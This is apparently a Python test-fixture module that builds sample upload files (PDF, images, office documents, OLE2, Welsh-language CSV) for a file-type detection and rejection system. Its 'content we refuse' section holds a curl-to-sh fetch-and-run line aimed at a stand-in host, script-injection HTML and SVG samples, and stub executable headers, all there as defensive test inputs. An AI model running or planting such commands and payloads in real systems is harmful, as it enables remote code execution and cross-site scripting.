"""Sample evidence files, built in memory so that no binary fixture is committed.

Each builder returns the bytes of a small but structurally real file of its kind: enough for
content detection, which looks at signatures and container structure, not at pixels or prose.
"""
from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterable, Iterator

# --- PDF and images -------------------------------------------------------------------------


def pdf(text: str = "Annual report") -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2) -> bytes:
    """A red RGB image."""
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n"
            + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + _png_chunk(b"IDAT", zlib.compress(rows))
            + _png_chunk(b"IEND", b""))


def jpeg() -> bytes:
    """SOI, a JFIF APP0 segment, a comment and EOI: the header a phone photo starts with."""
    app0 = b"JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"
    comment = b"Cegin y cartref"
    return (b"\xff\xd8"
            + b"\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0
            + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
            + b"\xff\xd9")


def gif() -> bytes:
    """A 1x1 GIF89a with a two-colour palette."""
    return (b"GIF89a" + struct.pack("<HH", 1, 1) + b"\x80\x00\x00"
            + b"\x00\x00\x00\xff\xff\xff"
            + b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00"
            + b"\x02\x02\x44\x01\x00" + b"\x3b")


def webp() -> bytes:
    """A RIFF container holding a (tiny) lossless VP8L bitstream."""
    vp8l = b"\x2f\x00\x00\x00\x00\x07\x00\x00\x00\x00"  # signature byte, 1x1, then padding
    chunk = b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l
    body = b"WEBP" + chunk
    return b"RIFF" + struct.pack("<I", len(body)) + body


def heic() -> bytes:
    """The ftyp box an iPhone photo starts with, followed by an empty meta box."""
    ftyp = b"ftyp" + b"heic" + struct.pack(">I", 0) + b"mif1heic"
    meta = b"meta" + b"\x00" * 4
    return struct.pack(">I", len(ftyp) + 4) + ftyp + struct.pack(">I", len(meta) + 4) + meta


# --- ZIP-based office documents ---------------------------------------------------------------

_CT_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>')
_OOXML = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
             '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
             '<w:body><w:p><w:r><w:t>Polisi diogelu</w:t></w:r></w:p></w:body></w:document>'),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
             '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             '<sheets/></workbook>'),
    "pptx": ("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
             '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'),
}
_MACRO_MAIN_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def _zip(members: Iterable[tuple[str, bytes | str]], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for index, (name, data) in enumerate(members):
            compress = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            zf.writestr(name, data, compress_type=compress)
    return buffer.getvalue()


def ooxml(kind: str = "docx", *, vba_project: bool = False, macro_content_type: bool = False) -> bytes:
    main_part, main_type, main_xml = _OOXML[kind]
    if macro_content_type:
        main_type = _MACRO_MAIN_TYPE
    content_types = _CT_HEAD + f'<Override PartName="/{main_part}" ContentType="{main_type}"/>'
    if vba_project:
        content_types += '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    content_types += "</Types>"
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/officeDocument" Target="{main_part}"/></Relationships>')
    members = [("[Content_Types].xml", content_types), ("_rels/.rels", rels), (main_part, main_xml)]
    if vba_project:
        folder = main_part.split("/")[0]
        members.append((f"{folder}/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64))
    return _zip(members)


def docx(**options) -> bytes:
    return ooxml("docx", **options)


def xlsx() -> bytes:
    return ooxml("xlsx")


def pptx() -> bytes:
    return ooxml("pptx")


def opendocument(kind: str = "text", *, basic_macros: bool = False) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    content = ('<?xml version="1.0" encoding="UTF-8"?>'
               '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
               ' office:version="1.3"><office:body/></office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>'
                '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
                '</manifest:manifest>')
    members = [("mimetype", mimetype), ("content.xml", content), ("META-INF/manifest.xml", manifest)]
    if basic_macros:
        members.append(("Basic/Standard/Module1.xml", "<script:module/>"))
    return _zip(members, stored_first=True)


def odt(**options) -> bytes:
    return opendocument("text", **options)


def ods() -> bytes:
    return opendocument("spreadsheet")


def odp() -> bytes:
    return opendocument("presentation")


def plain_zip() -> bytes:
    return _zip([("photos/kitchen.jpg", jpeg()), ("notes.txt", "Rota for March\n")])


# --- legacy office documents (OLE2 compound files) ----------------------------------------------

_FREESECT, _ENDOFCHAIN, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR = 512
_STREAM_SIZE = 4096  # at the mini-stream cutoff, so the data lives in ordinary sectors


def _directory_entry(name: str, kind: int, *, right: int = _NOSTREAM, child: int = _NOSTREAM,
                     start: int = _ENDOFCHAIN, size: int = 0) -> bytes:
    encoded = (name + "\x00").encode("utf-16-le")
    return (encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", _NOSTREAM, right, child) + b"\x00" * 16 + b"\x00" * 4
            + b"\x00" * 16 + struct.pack("<IQ", start, size))


def ole2(streams: Iterable[str] = ("WordDocument",), storages: Iterable[str] = ()) -> bytes:
    """A version-3 compound file (512-byte sectors, one FAT sector) whose root holds the given
    streams (4 KiB of zeros each) and empty storages, chained as right siblings."""
    children = [(name, 2) for name in streams] + [(name, 1) for name in storages]
    # The directory is a red-black tree ordered by name length, then upper-cased name; an
    # all-black chain of right siblings in that order is a valid (if unbalanced) tree.
    children.sort(key=lambda item: (len(item[0]), item[0].upper()))
    entry_count = 1 + len(children)
    dir_sectors = -(-entry_count // 4)
    stream_sectors = _STREAM_SIZE // _SECTOR
    first_data = 1 + dir_sectors
    total_sectors = first_data + stream_sectors * sum(kind == 2 for _, kind in children)
    assert total_sectors <= _SECTOR // 4, "one FAT sector is enough for these samples"

    fat = [_FATSECT]
    fat += [s + 1 for s in range(1, dir_sectors)] + [_ENDOFCHAIN]
    entries = [_directory_entry("Root Entry", 5, child=1 if children else _NOSTREAM)]
    next_sector = first_data
    for index, (name, kind) in enumerate(children, start=1):
        right = index + 1 if index < len(children) else _NOSTREAM
        if kind == 2:
            entries.append(_directory_entry(name, 2, right=right, start=next_sector, size=_STREAM_SIZE))
            fat += [next_sector + i + 1 for i in range(stream_sectors - 1)] + [_ENDOFCHAIN]
            next_sector += stream_sectors
        else:
            entries.append(_directory_entry(name, 1, right=right))
    fat += [_FREESECT] * (_SECTOR // 4 - len(fat))
    while len(entries) % 4:
        entries.append(_directory_entry("", 0))

    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x00" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\x00" * 6,
        0, 1, 1, 0, _STREAM_SIZE, _ENDOFCHAIN, 0, _ENDOFCHAIN, 0,
    ) + struct.pack("<109I", 0, *([_FREESECT] * 108))
    data = b"\x00" * (_STREAM_SIZE * sum(kind == 2 for _, kind in children))
    return header + struct.pack(f"<{len(fat)}I", *fat) + b"".join(entries) + data


def doc(**options) -> bytes:
    return ole2(("WordDocument", "1Table"), **options)


def xls() -> bytes:
    return ole2(("Workbook",))


def ppt() -> bytes:
    return ole2(("PowerPoint Document", "Current User"))


# --- text and CSV ---------------------------------------------------------------------------

WELSH_CSV = ("Enw,Tref,Rôl\n"
             "Gwenllïan ap Siôn,Llanelwy,Gofalwr\n"
             "Dafydd Ŵyn,Caerdydd,Rheolwr\n"
             "Eleri Ŷnys,Aberystwyth,\"Cydlynydd, gofal cartref\"\n")


def csv_utf8_welsh(*, bom: bool = True) -> bytes:
    return (b"\xef\xbb\xbf" if bom else b"") + WELSH_CSV.encode("utf-8")


def csv_semicolons() -> bytes:
    """How Excel saves CSV where the decimal separator is a comma."""
    return "Dyddiad;Oriau;Cyfradd\n01/03/2025;7,5;12,60\n02/03/2025;8;12,60\n".encode("utf-8")


def csv_windows_1252() -> bytes:
    """Excel's plain "CSV" on Windows: the ANSI code page, here with â, é, ï and £."""
    text = "Enw,Cyfeiriad,Cyflog\nSiân Jones,Café Gofal,£12.60\nRhodri Ellis,Llanfair-ym-Muallt,£11.90\nNaïa Owen,Abertawe,£12.00\n"
    return text.encode("cp1252")


def plain_text() -> bytes:
    return ("Cofnodion cyfarfod y bwrdd\n\nYn bresennol: Siân, Dafydd a Gwenllïan.\n"
            "Cytunwyd i adolygu'r polisi diogelu erbyn mis Mehefin.\n").encode("utf-8")


# --- content we refuse ---------------------------------------------------------------------

def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 40


def windows_executable() -> bytes:
    dos_header = b"MZ" + b"\x90\x00" + b"\x00" * 56 + struct.pack("<I", 64)
    return dos_header + b"PE\x00\x00" + struct.pack("<H", 0x8664) + b"\x00" * 100


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"


def html_page() -> bytes:
    return b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n"


def svg_image() -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n'
            b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b'<script>alert(1)</script></svg>\n')


def random_binary(size: int = 4096, seed: int = 20250301) -> bytes:
    data = bytearray(random.Random(seed).randbytes(size))
    data[0:4] = b"\x00\x13\x37\x00"  # pin the opening so no short signature matches by chance
    return bytes(data)


# --- streams for the store ------------------------------------------------------------------

class GeneratedStream(io.RawIOBase):
    """A readable stream over a generator of chunks, so that a large upload never exists in
    memory at once. `bytes_read` counts what the reader has consumed."""

    def __init__(self, chunks: Iterable[bytes]) -> None:
        self._chunks: Iterator[bytes] = iter(chunks)
        self._pending = b""
        self.bytes_read = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        while not self._pending:
            try:
                self._pending = next(self._chunks)
            except StopIteration:
                return 0
        count = min(len(buffer), len(self._pending))
        buffer[:count] = self._pending[:count]
        self._pending = self._pending[count:]
        self.bytes_read += count
        return count


def padded_pdf_chunks(total: int, chunk: int = 64 * 1024) -> Iterator[bytes]:
    """A PDF header followed by comment padding up to `total` bytes, generated lazily."""
    opening = b"%PDF-1.7\n"
    closing = b"\n%%EOF\n"
    yield opening
    remaining = total - len(opening) - len(closing)
    block = b"%" + b"0" * (chunk - 2) + b"\n"
    while remaining > 0:
        piece = block[:remaining]
        remaining -= len(piece)
        yield piece
    yield closing


def pdf_stream(total: int) -> GeneratedStream:
    return GeneratedStream(padded_pdf_chunks(total))
